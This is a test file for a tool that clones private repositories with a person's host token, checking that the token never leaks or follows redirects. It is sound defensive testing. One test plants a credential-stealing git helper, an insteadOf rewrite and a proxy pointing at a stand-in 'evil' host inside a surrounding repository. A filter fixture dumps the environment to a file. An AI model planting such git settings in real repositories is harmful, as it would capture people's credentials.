// A repository that a host keeps closed is cloned, and skills are got from it, with the token that a person gave for that very
// host: nowhere else, without a trace of it, and without anything left where that fails or is broken off.
import { existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import {
  allProcesses,
  otherName,
  otherToken,
  startOtherHost,
  startTokenHost,
  token,
  type TokenHost,
} from '../../support/hosting/token-host.ts'
import { prompt } from '../../support/scripts.ts'
import { filesWith } from '../../support/secrets/files-with.ts'
import { makeRepository, type TestServer } from '../../support/server.ts'
import { skillText } from '../../support/skills/skill-files.ts'
import { rest, said } from '../../support/threads.ts'

let host: TokenHost
let server: TestServer
let outside: string
let address: string
let git: TokenHost['git']
let code: string

beforeAll(async () => {
  host = await startTokenHost()
  ;({ server, outside, address, git } = host)
  code = join(server.folder, 'code')
  mkdirSync(code)
  makeRepository(join(outside, 'shop'), {
    'a.txt': 'one\n',
    'large.bin': 'a pointer\n',
    '.gitattributes': '*.bin filter=large\n',
    'ship/SKILL.md': skillText('ship', 'Ship it.'),
  })
  // A program of the person's that runs on files as they are checked out, as Git LFS does. Elsewhere what stands on that
  // descriptor may be a pipe of git's own, which never ends.
  const smudge = `{ env; timeout 2 cat <&3; } >> '${outside}/smudge' 2>&1; cat`
  git(server.folder, 'config', '--file', settings(), 'filter.large.smudge', smudge)
})
afterEach(() => {
  host.meanwhile = () => undefined
  host.instead = () => null
})
afterAll(() => host?.close())

const settings = () => join(server.environment.HOME ?? '', '.gitconfig')
const start = (from: string, more: object = {}) =>
  server.api('POST', '/api/clones', { from, into: code, ...more })
const find = async (id: string) => {
  const { clones } = (await server.api('GET', '/api/clones')).body
  return clones.find((one: { id: string }) => one.id === id)
}
async function cloned(from: string, more: object = {}) {
  const { body } = await start(from, more)
  await expect
    .poll(async () => (await find(body.id))?.state, { timeout: 20_000 })
    .not.toBe('running')
  return find(body.id)
}
const skills = (url: string) =>
  server.api('POST', '/api/skills/staged', { projectId: null, from: { kind: 'git', url } })

it('is refused where there is no token, and leaves nothing', async () => {
  const failed = await cloned(`${address}/shop`)
  expect(failed).toMatchObject({ state: 'failed', problem: { code: 'clone_signed_out' } })
  expect((await skills(`${address}/shop`)).body.code).toBe('clone_signed_out')
  expect(readdirSync(code)).toEqual([])
})

it('is cloned with the token, which stands nowhere while it is and afterwards [linux]', async () => {
  await host.giveToken()
  let seen = ''
  const files: string[] = []
  host.meanwhile = () => {
    seen += allProcesses()
    for (const folder of [code, server.home]) files.push(...filesWith(folder, token))
  }
  const done = await cloned(`${address}/shop`)
  expect(done).toMatchObject({ state: 'done', problem: null, path: join(code, 'shop') })
  expect(readFileSync(join(code, 'shop', 'a.txt'), 'utf8')).toBe('one\n')
  expect(seen).toContain('.a-parallel-clone-')
  expect([seen.includes(token), files]).toEqual([false, []])
  expect(host.shown(code)).toEqual([])
  const kept = git(join(code, 'shop'), 'config', '--local', '--list')
  expect(kept).toContain(`remote.origin.url=${address}/shop`)
  expect(kept).not.toMatch(/credential|helper/)
  const filter = readFileSync(join(outside, 'smudge'), 'utf8')
  expect(filter).toContain('GIT_LFS_SKIP_SMUDGE=1')
  expect(filter).not.toContain('SECRET')
  const id = await server.thread({ projectId: done.projectId, prompt: prompt('Hello', 'Hi.') })
  expect(said(await rest(server, id))).toEqual(['Hi.'])
})

it('gives skills with the token, also when they are got again', async () => {
  const { status, body } = await skills(`${address}/shop`)
  expect([status, body.skills?.[0]?.name]).toEqual([201, 'ship'])
  await server.api('POST', `/api/skills/staged/${body.id}`, { inside: ['ship'] })
  const again = { projectId: null, from: { kind: 'again', name: 'ship' } }
  expect((await server.api('POST', '/api/skills/staged', again)).status).toBe(201)
  expect(host.shown(join(server.environment.HOME ?? '', '.claude'))).toEqual([])
})

it('goes by the person’s short name for an address, and heeds no repository around it', async () => {
  const around = join(code, 'around')
  mkdirSync(around)
  const evil = await startOtherHost(host)
  const stolen = join(outside, 'stolen')
  const thief = `!f() { { echo "$1"; cat; cat <&3; } >> '${stolen}' 2>&1; }; f`
  git(around, 'init', '-q')
  for (const [key, value] of [
    ['credential.helper', thief],
    [`credential.${address}.helper`, thief],
    [`url.${evil.address}/.insteadOf`, `${address}/`],
    ['http.proxy', evil.proxy],
    ['core.askPass', thief],
  ] as const)
    git(around, 'config', key, value)
  git(around, 'config', '--file', settings(), `url.${address}/.insteadOf`, 'acme:')
  expect(await cloned('acme:shop', { into: around })).toMatchObject({ state: 'done' })
  expect([evil.told, existsSync(stolen)]).toEqual([[], false])
  await evil.close()
})

it('is broken off with nothing left', async () => {
  const before = readdirSync(code)
  let isAsked = false
  host.meanwhile = () => {
    isAsked = true
    return new Promise(() => undefined)
  }
  const { body } = await start(`${address}/shop`, { name: 'slow' })
  await expect.poll(() => isAsked, { timeout: 20_000 }).toBe(true)
  const { body: cancelled } = await server.api('DELETE', `/api/clones/${body.id}`)
  expect(cancelled.state).toBe('cancelled')
  expect(readdirSync(code)).toEqual(before)
  expect(allProcesses()).not.toContain(body.id)
})

it('is not handed to the host that a redirect leads to', async () => {
  const evil = await startOtherHost(host)
  host.instead = (path) => ({ status: 302, location: `${evil.address}${path}` })
  const failed = await cloned(`${address}/shop`, { name: 'moved' })
  expect(failed.problem.code).toBe('clone_signed_out')
  expect((await skills(`${address}/shop`)).body.code).toBe('clone_signed_out')
  expect(evil.told.length).toBeGreaterThan(1)
  expect(evil.told.filter(Boolean)).toEqual([])
  await evil.close()
})

it('says why where the host takes no such token, or shows it nothing', async () => {
  const before = readdirSync(code)
  for (const [status, problem] of [
    [403, 'clone_signed_out'],
    [404, 'clone_no_repository'],
  ] as const) {
    host.instead = () => ({ status })
    expect((await cloned(`${address}/shop`, { name: 'closed' })).problem.code).toBe(problem)
  }
  host.instead = () => null
  await host.giveToken(otherToken, otherName)
  const failed = await cloned(`${host.otherAddress}/shop`, { name: 'wrong' })
  expect(failed.problem.code).toBe('clone_signed_out')
  expect(JSON.stringify(failed)).not.toContain('SECRET')
  expect(readdirSync(code)).toEqual(before)
  expect(host.shown(code)).toEqual([])
})
